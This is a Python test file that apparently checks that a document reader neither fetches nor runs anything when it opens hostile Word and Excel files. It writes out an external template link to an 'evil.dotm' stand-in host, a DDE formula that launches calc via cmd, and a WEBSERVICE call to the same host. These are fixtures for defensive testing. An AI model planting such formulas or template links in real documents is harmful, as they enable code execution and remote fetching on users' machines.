"""Office files that fetch something when they are opened.

Tried: a Word template from elsewhere, a workbook linked to another, DDE and WEBSERVICE formulas.
Must: nothing is fetched or run, the file's own text is read, no formula counts as its value.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.documents.packing import RELATIONS, docx, xlsx

if TYPE_CHECKING:
    from tests.hostile.documents.conftest import Reader

OUT = "http://127.0.0.2:9/evil.dotm"
TEMPLATE = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" Target="{OUT}" TargetMode="External"/></Relationships>'
FORMULAS = "".join(
    f'<c r="{column}1" t="str"><f>{formula}</f><v>{value}</v></c>'
    for column, formula, value in (
        ("A", "cmd|'/c calc'!A0", ""),
        ("B", f"WEBSERVICE(&quot;{OUT}&quot;)", ""),
        ("C", "[1]Sheet1!A1", "แผน 2567"),
    )
)


def test_a_template_from_elsewhere_is_left_alone(reader: Reader) -> None:
    body = docx("แผนปี 2567", more={"word/_rels/settings.xml.rels": TEMPLATE.encode()})
    document = reader.read(body, "plan.docx")
    assert [p.text for p in document.passages] == ["แผนปี 2567"]
    assert document.links == ()


def test_formulas_are_not_run(reader: Reader) -> None:
    rows = f'<sheetData><row r="1">{FORMULAS}</row></sheetData>'
    texts = reader.texts(xlsx(rows), "plan.xlsx")
    assert "แผน 2567" in " ".join(texts)
    assert not any(word in " ".join(texts) for word in ("calc", "WEBSERVICE", OUT))
